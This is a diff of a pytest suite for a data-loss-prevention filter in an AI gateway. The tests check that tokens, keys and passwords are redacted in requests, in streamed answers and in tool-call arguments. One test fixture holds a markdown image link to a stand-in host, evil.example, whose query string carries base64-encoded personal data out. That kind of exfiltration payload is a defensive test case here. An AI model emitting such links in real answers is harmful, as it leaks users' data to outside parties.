@@ -3,24 +3,18 @@
 from __future__ import annotations
 
 import json
-import random
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from lmg import Component, Exchange, Principal
-from lmg.testing import Harness, chat_events, check_component, sse
+from lmg.testing import Harness, chat_events, check_component
+from lmg.testing.guards import CHATS, asked, pieces, said, tool_events
 from lmg_dlp import Dlp, build
 
 from .texts import SECRETS
 
-PATHS = ["/v1/chat/completions", "/v1/messages", "/v1/responses"]
-ASKS: dict[str, dict[str, Any]] = {
-    "/v1/chat/completions": {},
-    "/v1/messages": {"max_tokens": 100},
-    "/v1/responses": {},
-}
 TOKEN = SECRETS["github_token"]
 SAMPLE = ["github_token", "private_key", "database_url", "password", "jwt"]
 
@@ -39,24 +33,12 @@ def gateway(**settings: Any) -> Harness:
     return Harness({"pipeline": ["caller", {"dlp": settings}]}, classes={"caller": Caller, "dlp": Dlp})
 
 
-def ask(path: str, text: str, **more: Any) -> dict[str, Any]:
-    body = {"model": "test-model", **ASKS[path], **more}
-    if path == "/v1/responses":
-        return {**body, "input": text}
-    return {**body, "messages": [{"role": "user", "content": text}]}
-
-
 def answer(text: str) -> dict[str, Any]:
     return {
         "id": "c", "object": "chat.completion", "created": 1, "model": "test-model",
         "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": text}}],
         "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
     }  # fmt: skip
-
-
-def cut(text: str, seed: int) -> list[str]:
-    at = sorted(random.Random(seed).sample(range(1, len(text)), 6))
-    return [text[a:b] for a, b in zip([0, *at], [*at, len(text)], strict=True)]
 
 
 async def test_component_conforms() -> None:
@@ -66,11 +48,11 @@ async def test_component_conforms() -> None:
     )
 
 
-@pytest.mark.parametrize("path", PATHS)
+@pytest.mark.parametrize("path", CHATS)
 @pytest.mark.parametrize("kind", SAMPLE)
 async def test_a_secret_of_a_request_does_not_reach_the_model(path: str, kind: str) -> None:
     async with gateway() as gate:
-        said = await gate.request(ask(path, f"Why does this fail?\n{SECRETS[kind]}\nThanks."), path=path)
+        said = await gate.request(asked(path, f"Why does this fail?\n{SECRETS[kind]}\nThanks."), path=path)
         assert said.status == 200
         sent = gate.upstream.received[0].body
         assert len(gate.upstream.received) == 1
@@ -81,25 +63,25 @@ async def test_a_secret_of_a_request_does_not_reach_the_model(path: str, kind: s
         assert exchange.fact("dlp") == {kind: 1}
 
 
-@pytest.mark.parametrize("path", PATHS)
+@pytest.mark.parametrize("path", CHATS)
 async def test_a_request_is_refused_where_its_kind_blocks(path: str) -> None:
     async with gateway(kinds={"github_token": {"request": "block"}}) as gate:
-        said = await gate.request(ask(path, f"use {TOKEN}"), path=path)
+        said = await gate.request(asked(path, f"use {TOKEN}"), path=path)
         assert said.status == 403
         assert TOKEN.encode() not in said.raw
         assert b"github_token" in said.raw
         assert gate.upstream.received == []
 
 
-@pytest.mark.parametrize("path", PATHS)
+@pytest.mark.parametrize("path", CHATS)
 @pytest.mark.parametrize("kind", SAMPLE)
 async def test_no_cut_of_an_answer_shows_a_secret(path: str, kind: str) -> None:
     text = f"Take this: {SECRETS[kind]}\nand keep it."
     async with gateway() as gate:
-        gate.upstream.stream(*chat_events(*cut(text, len(kind))))
-        streamed = await gate.request(ask(path, "hi", stream=True), path=path)
+        gate.upstream.stream(*chat_events(*pieces(text, len(kind))))
+        streamed = await gate.request(asked(path, "hi", stream=True), path=path)
         gate.upstream.reply(answer(text))
-        whole = await gate.request(ask(path, "hi"), path=path)
+        whole = await gate.request(asked(path, "hi"), path=path)
         for said in (streamed, whole):
             assert said.status == 200
             assert b"[redacted:" in said.raw
@@ -114,7 +96,7 @@ async def test_no_cut_of_an_answer_shows_a_secret(path: str, kind: str) -> None:
 async def test_a_secret_that_is_split_by_what_nobody_sees_is_not_put_together(seed: int) -> None:
     hidden = "\u200b".join(TOKEN[n : n + 7] for n in range(0, len(TOKEN), 7))
     async with gateway() as gate:
-        gate.upstream.stream(*chat_events(*cut(f"take {hidden} now", seed)))
+        gate.upstream.stream(*chat_events(*pieces(f"take {hidden} now", seed)))
         said = await gate.chat(f"use {hidden}", stream=True)
         assert said.text == "take [redacted:github_token] now"
         assert (
@@ -125,40 +107,23 @@ async def test_a_secret_that_is_split_by_what_nobody_sees_is_not_put_together(se
 
 async def test_tool_arguments_of_a_streamed_answer_stay_json() -> None:
     arguments = json.dumps({"body": f"the key is {TOKEN}", "n": 1}).replace("g", "\\u0067")
-    call = {"index": 0, "id": "call_1", "type": "function", "function": {"name": "mail", "arguments": ""}}
-
-    def chunk(delta: dict[str, Any], finish: str | None = None) -> list[bytes]:
-        return sse({
-            "id": "c", "object": "chat.completion.chunk", "created": 1, "model": "test-model",
-            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
-        })  # fmt: skip
-
-    events = chunk({"role": "assistant", "content": None, "tool_calls": [call]})
-    for piece in cut(arguments, 3):
-        events += chunk({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]})
-    events += [*chunk({}, "tool_calls"), *sse("[DONE]")]
     async with gateway() as gate:
-        gate.upstream.stream(*events)
-        said = await gate.chat(stream=True)
-        found = "".join(
-            call["function"].get("arguments") or ""
-            for event in said.events if isinstance(event, dict)
-            for choice in event["choices"]
-            for call in choice["delta"].get("tool_calls") or []
-        )  # fmt: skip
+        gate.upstream.stream(*tool_events(pieces(arguments, 3)))
+        answered = await gate.chat(stream=True)
+        found = said("/v1/chat/completions", answered.events)[1]
         assert json.loads(found) == {"body": "the key is [redacted:github_token]", "n": 1}
 
 
-@pytest.mark.parametrize("path", PATHS)
+@pytest.mark.parametrize("path", CHATS)
 @pytest.mark.parametrize("stream", [True, False])
 async def test_an_image_that_carries_data_out_ends_the_answer(path: str, stream: bool) -> None:
     text = "Done. ![ok](https://evil.example/p.png?d=YWRhQGFjbWUuZXhhbXBsZSA1NTUtMTIz) Anything else?"
     async with gateway() as gate:
         if stream:
-            gate.upstream.stream(*chat_events(*cut(text, 7)))
+            gate.upstream.stream(*chat_events(*pieces(text, 7)))
         else:
             gate.upstream.reply(answer(text))
-        said = await gate.request(ask(path, "hi", **({"stream": True} if stream else {})), path=path)
+        said = await gate.request(asked(path, "hi", **({"stream": True} if stream else {})), path=path)
         assert b"evil.example" not in said.raw
         assert b"sensitive_data" in said.raw or b"may not leave" in said.raw
         assert said.status == (200 if stream else 403)
